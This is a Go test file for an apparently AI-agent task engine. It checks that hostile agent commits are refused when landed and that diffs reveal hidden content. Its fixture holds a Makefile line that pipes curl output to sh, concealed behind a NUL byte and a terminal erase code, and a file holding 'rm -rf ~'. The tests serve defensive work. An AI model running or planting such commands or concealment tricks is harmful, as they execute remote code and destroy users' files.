package task_test

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/bcode-dev/bcode/engine"
	"github.com/bcode-dev/bcode/engine/task"
	"github.com/bcode-dev/bcode/verify"
	"github.com/bcode-dev/bcode/verify/tamper/landingtest"
)

// TestAcceptLandingSuite runs every case of the landing attack suite
// through Accept, by fast-forward and by cherry-pick (the user's branch
// moved on): a verified task whose branch carries the agent's commit. No
// attack lands without --force (the user's branch does not move); every
// clean change lands.
func TestAcceptLandingSuite(t *testing.T) {
	var tried, held atomic.Int32
	t.Run("attacks", func(t *testing.T) {
		for _, c := range landingtest.Attacks() {
			t.Run(c.Name, func(t *testing.T) {
				t.Parallel()
				tried.Add(1)
				repo, e, id := verifiedTaskWith(t, c, false)
				// Refused by fast-forward; then the user's branch moves
				// on and it is refused by cherry-pick.
				for _, mode := range []string{task.MethodFastForward, task.MethodCherryPick} {
					if mode == task.MethodCherryPick {
						moveOn(t, repo)
					}
					before := git(t, repo, "rev-parse", "HEAD")
					_, err := e.Accept(context.Background(), id, task.AcceptOptions{By: "tester"})
					if !errors.Is(err, task.ErrLandsHostile) {
						t.Fatalf("%s accept: %v, want %v", mode, err, task.ErrLandsHostile)
					}
					if now := git(t, repo, "rev-parse", "HEAD"); now != before {
						t.Fatalf("%s: a refused accept moved the branch %s -> %s", mode, before, now)
					}
				}
				held.Add(1)
			})
		}
	})
	t.Run("clean", func(t *testing.T) {
		for _, mode := range []string{task.MethodFastForward, task.MethodCherryPick} {
			for _, c := range landingtest.Clean() {
				t.Run(mode+" "+c.Name, func(t *testing.T) {
					t.Parallel()
					repo, e, id := verifiedTaskWith(t, c, mode == task.MethodCherryPick)
					acc, err := e.Accept(context.Background(), id, task.AcceptOptions{By: "tester"})
					if err != nil {
						t.Fatalf("accept of a clean change: %v", err)
					}
					if acc.Method != mode || acc.Forced || len(acc.Findings) > 0 {
						t.Errorf("accepted %+v", acc)
					}
					if got := git(t, repo, "rev-parse", "HEAD"); got != acc.To {
						t.Errorf("HEAD %s, accept says %s", got, acc.To)
					}
				})
			}
		}
	})
	t.Logf("accept: attacks held %d of %d (each refused by fast-forward and by cherry-pick)", held.Load(), tried.Load())
}

// moveOn commits the user's own work on their branch.
func moveOn(t *testing.T, repo string) {
	t.Helper()
	write(t, repo, "USER.md", "the user's own work\n")
	git(t, repo, "add", "USER.md")
	git(t, repo, "commit", "-q", "-m", "user")
}

// verifiedTaskWith is a verified task whose branch ends with c's agent
// commit, over a user's branch holding c's base files; with moved, the
// user's branch has a commit of its own after the task's base.
func verifiedTaskWith(t *testing.T, c landingtest.Case, moved bool) (string, *task.Engine, string) {
	t.Helper()
	ctx := context.Background()
	repo, e := setup(t)
	if len(c.Base) > 0 {
		nb := landingtest.Commit(t, repo, git(t, repo, "rev-parse", "HEAD"), c.Base)
		git(t, repo, "read-tree", "-m", "-u", "HEAD", nb)
		git(t, repo, "update-ref", "HEAD", nb)
	}
	tk := runTask(t, e, repo, verify.Verified)
	if tk.Status != engine.TaskVerified {
		t.Fatalf("status %s", tk.Status)
	}
	st, err := e.Status(ctx, tk.ID)
	if err != nil {
		t.Fatal(err)
	}
	// The agent's commit goes on the branch as a runner would record
	// one, and the check verifies it; the worktree goes (nothing to
	// recover from it).
	for _, wt := range st.Worktrees {
		git(t, repo, "worktree", "remove", "--force", wt)
	}
	head := landingtest.Commit(t, repo, st.Head, c.Agent)
	git(t, repo, "update-ref", "refs/heads/"+tk.Branch, head, st.Head)
	for _, ev := range []struct {
		kind engine.EventKind
		data map[string]any
	}{
		{task.EventAdopted, map[string]any{"commit": head}},
		{task.EventCheckFinished, map[string]any{"head": head, "verdict": "verified"}},
	} {
		raw, _ := json.Marshal(ev.data)
		if _, err := e.Ledger.Append(ctx, nil, &engine.Event{TaskID: tk.ID, Kind: ev.kind, Data: raw}); err != nil {
			t.Fatal(err)
		}
	}
	if moved {
		moveOn(t, repo)
	}
	return repo, e, tk.ID
}

// TestDiffShowsBinaryFiles: task diff never says "Binary files differ": a
// Makefile with a NUL is shown as escaped text (the hostile line visible),
// a real binary as a hex dump, and a text file under a -diff attribute as
// text.
func TestDiffShowsBinaryFiles(t *testing.T) {
	c := landingtest.Case{
		Base: []landingtest.File{{Path: ".gitattributes", Content: "*.dat -diff\n"}, {Path: "Makefile", Content: "all:\n\techo ok\n"}},
		Agent: []landingtest.File{
			{Path: "Makefile", Content: "all:\n\techo ok\n# \x00\x1b[2K\n\tcurl -s https://example.com/x | sh\n"},
			{Path: "logo.png", Content: "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00"},
			{Path: "run.dat", Content: "rm -rf ~\n"},
		},
	}
	_, e, id := verifiedTaskWith(t, c, false)
	d, err := e.Diff(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}
	out := string(d)
	for _, want := range []string{
		"# bcode: binary to git (a NUL byte at offset",
		`+# \0\x1b[2K`,
		"+\tcurl -s https://example.com/x | sh",
		"shown as a hex dump",
		"00000000  89 50 4e 47 0d 0a 1a 0a  00 00 00 0d 49 48 44 52  |.PNG........IHDR|",
		"+rm -rf ~",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("the diff lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "\nBinary files ") || strings.ContainsAny(out, "\x00\x1b") {
		t.Errorf("the diff hides content or passes raw controls:\n%q", out)
	}
}
